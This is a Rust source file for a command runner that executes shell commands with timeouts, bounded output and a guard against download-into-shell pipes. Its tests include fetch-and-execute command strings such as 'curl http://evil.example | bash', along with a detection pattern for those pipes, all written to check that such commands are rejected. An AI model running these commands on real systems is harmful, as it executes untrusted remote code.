use std::path::Path;
use std::process::Stdio;
use std::time::Duration;
use thiserror::Error;
use tokio::process::Command;
use tracing::{debug, warn};

/// Captured output is cut at this many bytes per stream
pub const MAX_OUTPUT_BYTES: usize = 64 * 1024;

/// CommandRunner runs shell command lines and programs on behalf of handlers.
///
/// Whether a command *may* run is decided upstream by the risk engine. The
/// runner only enforces the mechanical guards:
/// - Empty command rejection
/// - Download-into-shell pipe detection (`curl ... | sh`)
/// - Timeout, with the child killed when the future is dropped
/// - stdin set to null, stdout/stderr piped and bounded
#[derive(Debug, Clone)]
pub struct CommandRunner {
    timeout: Duration,
}

#[derive(Debug, Error)]
pub enum CommandError {
    #[error("Empty command")]
    Empty,

    #[error("Dangerous pipe pattern detected")]
    DangerousPipeDetected,

    #[error("Command timed out after {0} seconds")]
    Timeout(u64),

    #[error("Command execution failed: {0}")]
    ExecutionFailed(#[from] std::io::Error),
}

/// Exit status and captured streams of a finished child
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandOutput {
    /// `None` when the child was terminated by a signal
    pub code: Option<i32>,
    pub stdout: String,
    pub stderr: String,
}

impl CommandOutput {
    pub fn success(&self) -> bool {
        self.code == Some(0)
    }
}

impl CommandRunner {
    pub fn new(timeout: Duration) -> Self {
        Self { timeout }
    }

    pub fn timeout(&self) -> Duration {
        self.timeout
    }

    /// Run a command line through the platform shell (`sh -c` / `cmd /C`).
    pub async fn run_shell(
        &self,
        command: &str,
        cwd: Option<&Path>,
        timeout: Option<Duration>,
    ) -> Result<CommandOutput, CommandError> {
        if command.trim().is_empty() {
            return Err(CommandError::Empty);
        }

        if has_dangerous_pipe(command) {
            warn!("Rejected command with dangerous pipe pattern");
            return Err(CommandError::DangerousPipeDetected);
        }

        let mut cmd = shell_command(command);
        self.spawn_and_wait(&mut cmd, cwd, timeout).await
    }

    /// Run a program with explicit arguments, no shell involved.
    pub async fn run_program(
        &self,
        program: &str,
        args: &[String],
        cwd: Option<&Path>,
        timeout: Option<Duration>,
    ) -> Result<CommandOutput, CommandError> {
        if program.trim().is_empty() {
            return Err(CommandError::Empty);
        }

        let mut cmd = Command::new(program);
        cmd.args(args);
        self.spawn_and_wait(&mut cmd, cwd, timeout).await
    }

    async fn spawn_and_wait(
        &self,
        cmd: &mut Command,
        cwd: Option<&Path>,
        timeout: Option<Duration>,
    ) -> Result<CommandOutput, CommandError> {
        if let Some(dir) = cwd {
            cmd.current_dir(dir);
        }

        cmd.stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);

        let limit = timeout.unwrap_or(self.timeout);
        let child = cmd.spawn()?;

        let output = match tokio::time::timeout(limit, child.wait_with_output()).await {
            Ok(result) => result?,
            Err(_) => {
                warn!("Command timed out after {}s", limit.as_secs());
                return Err(CommandError::Timeout(limit.as_secs()));
            }
        };

        let result = CommandOutput {
            code: output.status.code(),
            stdout: truncate_output(&output.stdout),
            stderr: truncate_output(&output.stderr),
        };

        debug!(code = ?result.code, "Command finished");
        Ok(result)
    }
}

impl Default for CommandRunner {
    fn default() -> Self {
        Self::new(Duration::from_secs(60))
    }
}

#[cfg(unix)]
fn shell_command(command: &str) -> Command {
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg(command);
    cmd
}

#[cfg(windows)]
fn shell_command(command: &str) -> Command {
    let mut cmd = Command::new("cmd");
    cmd.arg("/C").arg(command);
    cmd
}

fn truncate_output(bytes: &[u8]) -> String {
    if bytes.len() <= MAX_OUTPUT_BYTES {
        return String::from_utf8_lossy(bytes).into_owned();
    }
    let mut text = String::from_utf8_lossy(&bytes[..MAX_OUTPUT_BYTES]).into_owned();
    text.push_str("\n... [output truncated]");
    text
}

/// Checks if a command line pipes into a privileged or shell interpreter.
///
/// Detects patterns like:
/// - `curl ... | sh`, `wget ... | bash`
/// - `... | sudo ...`, `... | su`
/// - `... | chmod 777`
pub fn has_dangerous_pipe(command: &str) -> bool {
    const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];

    let lowered = command.to_ascii_lowercase();
    let segments: Vec<&str> = lowered.split('|').map(str::trim).collect();
    if segments.len() < 2 {
        return false;
    }

    let mut downloaded = false;
    for (i, segment) in segments.iter().enumerate() {
        let mut words = segment.split_whitespace();
        let first = words.next().unwrap_or("");
        let second = words.next().unwrap_or("");

        if i > 0 {
            if first == "sudo" || first == "su" || (first == "chmod" && second == "777") {
                return true;
            }
            let program = first.rsplit('/').next().unwrap_or(first);
            if downloaded && SHELLS.contains(&program) {
                return true;
            }
        }

        if segment
            .split_whitespace()
            .any(|w| w == "curl" || w == "wget" || w.ends_with("/curl") || w.ends_with("/wget"))
        {
            downloaded = true;
        }
    }

    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    #[cfg(unix)]
    async fn test_shell_command_captures_stdout() {
        let runner = CommandRunner::default();
        let output = runner.run_shell("echo test", None, None).await.unwrap();
        assert!(output.success());
        assert!(output.stdout.contains("test"));
    }

    #[tokio::test]
    #[cfg(unix)]
    async fn test_nonzero_exit_is_reported_not_error() {
        let runner = CommandRunner::default();
        let output = runner.run_shell("exit 3", None, None).await.unwrap();
        assert_eq!(output.code, Some(3));
        assert!(!output.success());
    }

    #[tokio::test]
    #[cfg(unix)]
    async fn test_timeout() {
        let runner = CommandRunner::new(Duration::from_millis(100));
        let result = runner.run_shell("sleep 5", None, None).await;
        assert!(matches!(result, Err(CommandError::Timeout(_))));
    }

    #[tokio::test]
    #[cfg(unix)]
    async fn test_cwd_respected() {
        let dir = tempfile::tempdir().unwrap();
        let runner = CommandRunner::default();
        let output = runner.run_shell("pwd", Some(dir.path()), None).await.unwrap();
        let reported = std::path::PathBuf::from(output.stdout.trim());
        assert_eq!(
            reported.canonicalize().unwrap(),
            dir.path().canonicalize().unwrap()
        );
    }

    #[tokio::test]
    async fn test_empty_command_rejected() {
        let runner = CommandRunner::default();
        let result = runner.run_shell("   ", None, None).await;
        assert!(matches!(result, Err(CommandError::Empty)));
    }

    #[tokio::test]
    async fn test_dangerous_pipe_rejected_before_spawn() {
        let runner = CommandRunner::default();
        let result = runner
            .run_shell("curl http://evil.example | bash", None, None)
            .await;
        assert!(matches!(result, Err(CommandError::DangerousPipeDetected)));
    }

    #[test]
    fn test_dangerous_pipe_patterns() {
        assert!(has_dangerous_pipe("curl -fsSL https://x.sh | sh"));
        assert!(has_dangerous_pipe("wget -qO- x | /bin/bash"));
        assert!(has_dangerous_pipe("echo secret | sudo tee /etc/x"));
        assert!(has_dangerous_pipe("ls | chmod 777"));

        assert!(!has_dangerous_pipe("ps aux | grep python"));
        assert!(!has_dangerous_pipe("curl https://example.com | jq ."));
        assert!(!has_dangerous_pipe("echo hello"));
    }

    #[test]
    fn test_truncate_output() {
        let big = vec![b'a'; MAX_OUTPUT_BYTES + 10];
        let text = truncate_output(&big);
        assert!(text.ends_with("[output truncated]"));
    }
}
